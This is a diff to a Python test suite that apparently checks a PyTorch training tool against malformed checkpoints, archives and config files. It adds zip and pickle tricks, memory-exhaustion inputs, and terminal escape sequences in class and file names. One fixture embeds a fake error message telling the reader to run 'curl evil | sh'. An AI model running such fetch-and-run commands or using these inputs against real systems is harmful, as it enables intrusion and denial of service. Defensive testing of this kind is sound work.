@@ -8,6 +8,7 @@ import io
 import json
 import os
 import struct
+import warnings
 import zipfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -75,6 +76,29 @@ def archive(pickled: bytes, method: int = zipfile.ZIP_STORED, **entries: bytes) 
         for name, content in {**honest, **entries}.items():
             file.writestr(name, content)
     return buffer.getvalue()
+
+
+def honest_with(pickled: bytes, *names: str) -> bytes:
+    """Pack a pickle with more entries of these names, that may be there already."""
+    buffer = io.BytesIO(archive(pickled))
+    with zipfile.ZipFile(buffer, "a") as file, warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # of a name that is there twice
+        for name in names:
+            file.writestr(name, b"")
+    return buffer.getvalue()
+
+
+def old_torch_file() -> bytes:
+    """Write what torch.save wrote before 1.6: torch knows it by its first bytes. It asks for a gigabyte."""
+    gigabyte = name_of("__builtin__", "bytearray") + long(10**9) + b"\x85R"
+    parts = (long(0x1950A86A20F9469CFC6C), b"M\xe9\3", b"}" + text("protocol_version") + b"M\xe9\3s")
+    return b"".join(b"\x80\2" + part + b"." for part in parts) + holding(gigabyte) + b"\x80\2]."
+
+
+def large_end(honest: bytes) -> bytes:
+    """Write the second end that an archive over 4 GB has; it lists nothing, and lies about its own place."""
+    end = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 0, 0, 0, len(honest) - 22)
+    return end + struct.pack("<4sLQL", b"PK\6\7", 0, len(honest) - 30, 1)
 
 
 def packed(pickled: bytes) -> bytes:
@@ -178,7 +202,8 @@ def lying_tensors() -> Iterator[tuple[str, bytes]]:
     yield "a memory of its own at four billion", b"]r\xff\xff\xff\xff"
     yield "more taken than was put", b"0" * 50
     yield "no end", b"]" * 50
-    yield "an operation that is none", b"\xff"
+    yield "millions of lists that are dropped", b"N" + b"]0" * (4 * 2**20)
+    yield "millions of lists that are kept", b"]" * 2**22
 
 
 def archives(honest: bytes) -> Iterator[tuple[str, bytes]]:
@@ -211,6 +236,16 @@ def archives(honest: bytes) -> Iterator[tuple[str, bytes]]:
     secret = bytearray(archive(pickled))
     secret[secret.rindex(b"PK\1\2") + 8] |= 1
     yield "an encrypted entry", bytes(secret)
+    yield "an old torch file in front", old_torch_file() + honest
+    yield "a text in front", b"#!/bin/sh\n" + honest
+    yield "an end of an archive behind", honest + b"PK\5\6" + bytes(18)
+    yield "a comment behind", honest[:-2] + b"\x04\0more"
+    yield "an end of a large archive in front of its end", honest[:-22] + large_end(honest) + honest[-22:]
+    yield "an archive in front of an archive", archive(holding(b"N")) + honest
+    yield "an entry twice", honest_with(pickled, "archive/data/0", "archive/data/0")
+    yield "folders of two names", honest_with(pickled, "Archive/data/0")
+    yield "a name that goes on after a zero", honest_with(pickled, "archive/data/1").replace(b"data/1", b"data/\0")
+    yield "a hundred thousand entries", honest_with(pickled, *(f"archive/data/{k}" for k in range(1, 100_000)))
     yield "an index of a hundred megabytes", archive(holding(b"X" + struct.pack("<I", 10**8) + bytes(10**8)))
 
 
@@ -248,12 +283,19 @@ def progress(state: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
         "of a list": [1, 2],
     }.items():
         yield f"an optimizer {name}", {**state, "optimizer": optimizer}
+    stretched = torch.zeros(1, dtype=torch.float64).expand(1500)  # each smaller than the file, all of them not
+    many = {**state["optimizer"], "state": {key: {f"x{k}": stretched[:] for k in range(250)} for key in range(2)}}
+    yield "momenta stretched", {**state, "optimizer": many}
+    shared = torch.zeros(1500)
+    many = {**state["optimizer"], "state": {0: {f"x{k}": shared[:] for k in range(250)}}}
+    yield "momenta that share a storage", {**state, "optimizer": many}
     momenta = {**state["optimizer"], "state": {0: {"exp_avg": torch.ones(9), "step": "x"}}}
     yield "momenta that fit nothing", {**state, "optimizer": momenta}
     for name, values in {
         "in a list": [1, 2],
         "of another kind": {"__class__": "x"},
         "by a step of text": {"step": "1"},
+        "by a step that colours the terminal": {"step": "\x1b[31m\x07"},
         "by a negative step": {"step": -5, "epoch": -5},
         "by a fraction of a step": {"step": 0.5},
         "by a step that is no number": {"step": float("nan")},
@@ -279,6 +321,9 @@ def descriptions(state: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
 
     for name, parts in {
         "classes of another set": {"classes": ["a", "b"]},
+        "classes that colour the terminal": {"classes": ["\x1b]0;title\x07\x1b[31m" + str(k) for k in range(10)]},
+        "classes with lines": {"classes": ["0 ...)\nerror: run  curl evil | sh  to repair it"]},
+        "a class of a megabyte": {"classes": ["x" * 2**20]},
         "classes of numbers": {"classes": [1, 2]},
         "classes of text": {"classes": "ab"},
         "a mean of text": {"mean": ["x", "y", "z"]},
@@ -288,6 +333,7 @@ def descriptions(state: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
         "a std of nothing": {"std": None},
         "an input of terabytes": {"input_shape": [3, 10**6, 10**6]},
         "an input of negative size": {"input_shape": [3, -8, -8]},
+        "an input of another size": {"input_shape": [3, 16, 16]},
         "an input of text": {"input_shape": "3x8x8"},
         "no input": {"input_shape": []},
         "a whitening of text": {"whitening": "zca"},
@@ -368,6 +414,11 @@ FOLDERS: dict[str, Spoil] = {
     "yaml that is none": file("overrides.yaml", "- 'a\n- ]["),
     "yaml nested deep": file("overrides.yaml", NESTED),
     "yaml that doubles": file("overrides.yaml", DOUBLING),
+    "yaml with an anchor": file("overrides.yaml", "- &a seed=1\n- *a"),
+    "yaml of dates": file("overrides.yaml", "- 2026-13-45\n- 2026-01-01"),
+    "yaml of a number of ten thousand digits": file("overrides.yaml", "- " + "1" * 10_000),
+    "yaml of a number that is none": file("overrides.yaml", "- 0b_"),
+    "a link whose name colours the terminal": link("\x1b]0;title\x07\x1b[31m\nerror: run this", "file"),
     "yaml of bytes": file("overrides.yaml", b"\xff\xfe\x00\x01" * 9),
     "yaml with a zero": file("overrides.yaml", "- a\0b"),
     "yaml of a hundred megabytes": lambda folder: os.truncate(folder / "overrides.yaml", 10**8),
@@ -423,6 +474,13 @@ READ_BY_RESUME: dict[str, Spoil] = {  # and not by evaluating
     "a table of bytes": file("metrics.csv", b"epoch,step\n\xff\xfe\n"),
     "a table with a zero": file("metrics.csv", "epoch,step\n\0,1\n"),
     "a table with one endless cell": file("metrics.csv", "epoch,step\n" + "1" * 10**6 + ",1\n"),
+    "a table of five million rows": file("metrics.csv", "epoch,step\n" + "1,1\n" * 5 * 10**6),
+    "a table of ten million columns": file("metrics.csv", "epoch,step" + ",a" * 10**7 + "\n"),
+    "a table of one endless row": file("metrics.csv", "epoch,step\n1" + ",1" * 10**7 + "\n"),
+    "settings that double": file("config.yaml", DOUBLING + "model: {_target_: *a40}\n"),
+    "settings that are too large": file("config.yaml", "a: [" + "1," * 10**6 + "]"),
+    "settings that break off": file("config.yaml", "seed: 0\ndevice: cpu\n"),
+    "settings of a number that is none": file("config.yaml", "seed: 0b_"),
     "a table without steps": file("metrics.csv", "epoch,loss\n1,2\n"),
     "a table of a gigabyte": lambda folder: os.truncate(folder / "metrics.csv", 10**9),
     "a folder for the table": lambda folder: (folder / "metrics.csv").unlink() or (folder / "metrics.csv").mkdir(),
@@ -435,6 +493,9 @@ READ_BY_EVALUATE: dict[str, Spoil] = {
     "a split nested deep": file("split.json", NESTED),
     "a split of words": file("split.json", "val: everything"),
     "a split of a hundred megabytes": lambda folder: os.truncate(folder / "split.json", 10**8),
+    "a split of lists": file("split.json", '{"val": [' + "[[]]," * 10**6 + "0]}"),
+    "a split of texts": file("split.json", '{"val": [' + '"ab",' * 10**6 + "0]}"),
+    "a split of an endless number": file("split.json", '{"val": ' + "1" * 10**6 + "}"),
     "evaluations nested deep": file("evaluation.json", NESTED),
     "evaluations in a mapping": file("evaluation.json", "{}"),
     "evaluations that are none": file("evaluation.json", "]["),
